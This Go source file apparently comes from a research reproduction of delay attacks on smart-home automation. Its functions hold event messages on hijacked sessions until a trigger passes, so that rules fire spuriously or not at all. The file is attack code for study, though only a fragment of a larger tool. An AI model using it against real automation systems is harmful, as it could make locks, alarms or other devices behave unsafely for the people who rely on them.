package core

import (
	"time"

	"repro/internal/sniff"
)

// This file maps Section V's attack families onto the two primitives.
//
// Type-I (state-update delay) and Type-II (action delay) are direct uses
// of e-Delay and c-Delay. Type-III (erroneous execution) adds ordering:
// the attacker holds the event that would change a rule's condition until
// after the rule's trigger has passed (spurious execution), or holds the
// event that would satisfy the condition until the trigger has passed
// (disabled execution). Both reduce to "release when some other message is
// observed", which ReleaseWhen implements across hijacked sessions.

// ReleaseWhen releases op as soon as the watching hijacker observes an
// event record from origin (plus extra slack). This is the ordering tool
// of the Type-III attacks: "hold the condition event until the trigger has
// gone past".
func ReleaseWhen(op *DelayOp, watch *Hijacker, origin string, extra time.Duration) {
	prev := watch.OnRecord
	done := false
	watch.OnRecord = func(b *Bridge, cr ClassifiedRecord) {
		if prev != nil {
			prev(b, cr)
		}
		if done {
			return
		}
		if !cr.Known || cr.Msg.Origin != origin || cr.Msg.Kind != sniff.KindEvent {
			return
		}
		done = true
		if extra > 0 {
			watch.atk.Clock.Schedule(extra, op.Release)
		} else {
			op.Release()
		}
	}
}

// SpuriousExecution arms the Type-III(1) attack against a rule
// (T, C, A): the event that would turn the condition false is held; the
// victim (or the attacker's timing) produces the trigger while the server
// still believes the stale condition; the action fires spuriously. The
// held event is released when the trigger's event message is observed
// passing through watchTrigger, after slack.
func SpuriousExecution(condHijacker *Hijacker, condOrigin string, watchTrigger *Hijacker, triggerOrigin string, slack time.Duration) *DelayOp {
	op := condHijacker.EDelay(condOrigin, 0)
	ReleaseWhen(op, watchTrigger, triggerOrigin, slack)
	return op
}

// DisabledExecution arms the Type-III(2) attack: the event that would turn
// the condition true (or that is itself the trigger) is held until after
// the other event has passed, so the rule never fires. The choreography is
// identical to SpuriousExecution — what differs is which event is held —
// so this is an alias with its own name for call-site clarity.
func DisabledExecution(heldHijacker *Hijacker, heldOrigin string, watch *Hijacker, watchOrigin string, slack time.Duration) *DelayOp {
	return SpuriousExecution(heldHijacker, heldOrigin, watch, watchOrigin, slack)
}
